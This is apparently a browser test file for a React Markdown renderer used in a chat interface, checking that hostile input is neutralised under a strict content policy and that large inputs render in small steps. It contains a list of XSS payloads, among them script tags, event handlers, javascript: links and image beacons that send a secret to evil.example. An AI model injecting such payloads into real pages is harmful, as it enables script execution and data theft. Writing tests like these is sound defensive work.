import { StrictMode } from "react";
import { flushSync } from "react-dom";
import { createRoot } from "react-dom/client";
import { afterEach, expect, test } from "vitest";
import { userEvent } from "vitest/browser";
import { LayerProvider } from "../../src/data/layer-provider.tsx";
import type { Translate } from "../../src/host/use-labels.ts";
import { Markdown } from "../../src/ui/markdown/markdown.tsx";
import { mount } from "./mount.tsx";

const t: Translate<"chat"> = (name, values) => `${name} ${Object.values(values ?? {}).join(" ")}`.trim();
const fetcher = () => Promise.reject(new TypeError("Nothing may be asked for."));
const policy =
  "default-src 'self'; style-src 'self'; script-src 'self'; require-trusted-types-for 'script'; img-src 'self'";

const ends: (() => void)[] = [];
afterEach(() => {
  for (const end of ends.splice(0)) end();
});

/** A document of its own under the strict policy, with everything that it objects to. */
function strictDocument() {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  const inner = frame.contentDocument;
  if (!inner) throw new Error("A frame of the same origin has a document.");
  const meta = inner.createElement("meta");
  meta.httpEquiv = "Content-Security-Policy";
  meta.content = policy;
  inner.head.append(meta);
  const violations: string[] = [];
  inner.addEventListener("securitypolicyviolation", (event) => {
    violations.push(`${event.violatedDirective} ${event.blockedURI}`);
  });
  const root = createRoot(inner.body);
  const show = (text: string, isStreaming: boolean) =>
    flushSync(() =>
      root.render(
        <StrictMode>
          <LayerProvider fetcher={fetcher}>
            <Markdown text={text} isStreaming={isStreaming} t={t} />
          </LayerProvider>
        </StrictMode>,
      ),
    );
  ends.push(() => {
    root.unmount();
    frame.remove();
  });
  return { inner, show, violations };
}

const hostile = [
  `<script>parent.pwned = 1</script><img src=x onerror="parent.pwned = 2"><svg onload=parent.pwned=3>`,
  `<iframe srcdoc="<script>parent.parent.pwned=4</script>"></iframe><style>@import url(https://evil.example/a.css)</style>`,
  `[click](javascript:parent.pwned=5) [data](data:text/html,<script>parent.pwned=6</script>) <javascript:parent.pwned=7>`,
  `![beacon](https://evil.example/beacon.png?secret=1) ![x](javascript:parent.pwned=8) [![in](https://evil.example/i.png)](https://evil.example)`,
  `[https://bank.example](https://evil.example/) [user](https://bank.example@evil.example/)`,
  `\u202egpj.exe\u202c \u2066hidden\u2069`,
  `| <b onclick=parent.pwned=9>a</b> | [b](vbscript:x) |\n|---|---|\n| ![c](https://evil.example/c.png) | <img src=https://evil.example/d.png> |`,
  `> - > ## <a href="javascript:parent.pwned=10">x</a>\n>   1. \`<script>\``,
  "```html\n<script>parent.pwned = 11</script>\n```",
  `<a\nhref="https://evil.example" onmouseover=parent.pwned=12>x</a> &lt;script&gt; \\<img src=x>`,
].join("\n\n");

test("13: at every prefix of a hostile answer nothing runs, nothing is fetched, and no link leads astray", async () => {
  const { inner, show, violations } = strictDocument();
  const requested = () => inner.defaultView?.performance.getEntriesByType("resource").map(({ name }) => name) ?? [];
  for (let length = 1; length <= hostile.length; length++) {
    show(hostile.slice(0, length), true);
    const unsafe = inner.body.querySelectorAll(
      "script, style, link, iframe, object, embed, img, svg [onload], form, base",
    );
    expect(unsafe).toHaveLength(0);
    for (const link of inner.querySelectorAll("a")) {
      expect(link.protocol).toMatch(/^(https?|mailto):$/);
      expect(link.rel).toBe("noopener noreferrer nofollow");
      expect(link.username + link.password).toBe("");
    }
  }
  show(hostile, false);
  const handlers = [...inner.body.querySelectorAll("*")].flatMap((element) =>
    element.getAttributeNames().filter((name) => name.startsWith("on") || name === "style" || name === "srcdoc"),
  );
  expect(handlers).toEqual([]);
  expect(inner.body.textContent).toContain("<script>parent.pwned = 1</script>");
  expect(inner.body.textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  await new Promise((resolve) => setTimeout(resolve, 50));
  expect(requested()).toEqual([]);
  expect(violations).toEqual([]);
  expect("pwned" in window).toBe(false);
});

test("13: a link whose words name another host says where it leads", () => {
  const { inner, show } = strictDocument();
  show("[https://bank.example](https://evil.example/x) and https://plain.example/y", false);
  expect(inner.body.textContent).toBe("https://bank.example (evil.example) and https://plain.example/y");
});

test("13: an image is asked for by the click alone, and without saying where from", async () => {
  const { container } = mount(
    <LayerProvider fetcher={fetcher}>
      <Markdown text="![A cat](https://images.example/cat.png)" isStreaming={false} t={t} />
    </LayerProvider>,
  );
  expect(container.querySelector("img")).toBeNull();
  // At once: there is no such host, and what cannot be loaded makes way for its words.
  flushSync(() => container.querySelector("button")?.click());
  const image = container.querySelector("img");
  expect(image).toHaveProperty("src", "https://images.example/cat.png");
  expect(image).toHaveProperty("referrerPolicy", "no-referrer");
});

test("13: a click on one image asks for no other that comes to stand in its place", () => {
  const { inner, show } = strictDocument();
  show("![A cat](https://images.example/cat.png)", false);
  flushSync(() => inner.querySelector("button")?.click());
  expect(inner.querySelector("img")).toHaveProperty("src", "https://images.example/cat.png");
  show("![A cat](https://evil.example/beacon.png?secret=1)", false);
  expect(inner.querySelector("img")).toBeNull();
  expect(inner.querySelector("button")?.textContent).toContain("evil.example");
});

test("13: while a text grows, what has been written of it stays the same elements", () => {
  const { inner, show } = strictDocument();
  show("# Title\n\nFirst.\n\n- a\n- b\n\nLast", true);
  const first = inner.querySelector(".layer-markdown-paragraph");
  const items = inner.querySelectorAll("li");
  const changed: Node[] = [];
  const watch = new MutationObserver((records) => changed.push(...records.map(({ target }) => target)));
  watch.observe(inner.body, { subtree: true, childList: true, characterData: true });
  show("# Title\n\nFirst.\n\n- a\n- b\n\nLast words", true);
  changed.push(...watch.takeRecords().map(({ target }) => target));
  expect(inner.querySelector(".layer-markdown-paragraph")).toBe(first);
  expect([...inner.querySelectorAll("li")]).toEqual([...items]);
  expect(changed.length).toBeGreaterThan(0);
  expect(changed.every((node) => node.textContent === "Last words")).toBe(true);
});

test.each([
  ["a megabyte without a line break", "a".repeat(1_000_000)],
  ["100,000 emphases that never end", "*a ".repeat(100_000)],
  ["a megabyte in one list item", `- ${"b ".repeat(500_000)}`],
  ["100,000 quotes in one another", "> ".repeat(100_000)],
  ["50,000 list items", "- a\n".repeat(50_000)],
  ["a megabyte of code in one line", `\`\`\`\n${"c".repeat(1_000_000)}`],
  ["a table of 5,000 cells", `|a|b|c|d|e|\n|-|-|-|-|-|\n${"|1|2|3|4|5|\n".repeat(1_000)}`],
])("13: %s comes in small steps, and never all at once unasked", async (_, text) => {
  const { inner, show } = strictDocument();
  const sizes: number[] = [];
  const count = () => inner.body.querySelectorAll("*").length;
  show(text, true);
  sizes.push(count());
  for (let steady = 0; steady < 3; ) {
    await new Promise((resolve) => setTimeout(resolve, 5));
    const size = count();
    steady = size === sizes.at(-1) ? steady + 1 : 0;
    sizes.push(size);
  }
  const steps = sizes.map((size, index) => size - (sizes[index - 1] ?? 0));
  // One look may see more than one step, if the timers run together.
  expect(Math.max(...steps)).toBeLessThan(6_000);
  expect(sizes.at(-1)).toBeLessThan(100_000);
  const shown = inner.body.textContent?.length ?? 0;
  expect(shown).toBeGreaterThan(200);
});

test("13: more of a long table is shown when asked for", async () => {
  const text = `|a|b|c|d|e|\n|-|-|-|-|-|\n${"|1|2|3|4|5|\n".repeat(1_000)}`;
  const { container } = mount(
    <LayerProvider fetcher={fetcher}>
      <Markdown text={text} isStreaming={false} t={t} />
    </LayerProvider>,
  );
  await expect.poll(() => container.querySelectorAll("tbody tr").length).toBe(200);
  const more = container.querySelector(".layer-markdown-more button") as HTMLElement;
  expect(more.textContent).toBe("showMore 800");
  await userEvent.click(more);
  await expect.poll(() => container.querySelectorAll("tbody tr").length).toBe(400);
});
